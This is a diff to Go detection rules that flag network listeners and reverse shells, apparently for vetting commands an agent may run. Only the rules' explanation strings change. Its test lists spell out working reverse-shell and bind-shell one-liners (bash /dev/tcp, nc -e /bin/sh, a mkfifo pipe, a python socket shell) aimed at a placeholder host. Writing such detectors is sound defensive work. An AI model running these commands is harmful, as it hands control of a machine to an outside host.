@@ -30,7 +30,7 @@ func networkRules() []hazard.Rule {
 		},
 		{
 			ID: "network-listener", Class: "network", Programs: "nc ncat netcat socat",
-			Why:     "opens a port to the network, or ties a program to a connection",
+			Why:     "opens a port to the network, or attaches a program to a connection",
 			Instead: "Use the tool's own server bound to 127.0.0.1, or ask the user.",
 			Match:   match(either(option("l", "listen", "e", "exec", "c", "sh-exec", "lua-exec"), argument(func(v string) bool { return contains("EXEC:", "SYSTEM:", "LISTEN:", "SHELL:")(strings.ToUpper(v)) }))),
 			Hit:     []string{"nc -lvp 4444", "nc -e /bin/sh x.example 4444", "ncat -l 80 --exec /bin/bash", "socat TCP-LISTEN:80,fork EXEC:/bin/sh", "nc -kl 8000"},
@@ -38,8 +38,8 @@ func networkRules() []hazard.Rule {
 		},
 		{
 			ID: "network-shell", Class: "network", Programs: "",
-			Why:     "ties a shell to a connection, so that another host can command it",
-			Instead: "Do not open a shell to the network; run the commands that are needed here.",
+			Why:     "attaches a shell to a connection, so that another host can control it",
+			Instead: "Do not connect a shell to the network; run the commands you need here.",
 			Match:   networkShell,
 			Hit:     []string{"bash -i >& /dev/tcp/x.example/4444 0>&1", "exec 5<>/dev/tcp/x.example/4444", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x.example 4444 > /tmp/f", `python3 -c "import socket,subprocess,os; s=socket.socket(); s.connect(('x.example',1)); os.dup2(s.fileno(),0); subprocess.call(['/bin/sh'])"`, "bash | nc x.example 4444"},
 			Miss:    []string{"echo hi > /dev/null", "cat run.sh | grep nc", "echo '/dev/tcp/x.example/4444'", `python3 -c "import socket; print(socket.gethostname())"`, "bash run.sh | tee log"},
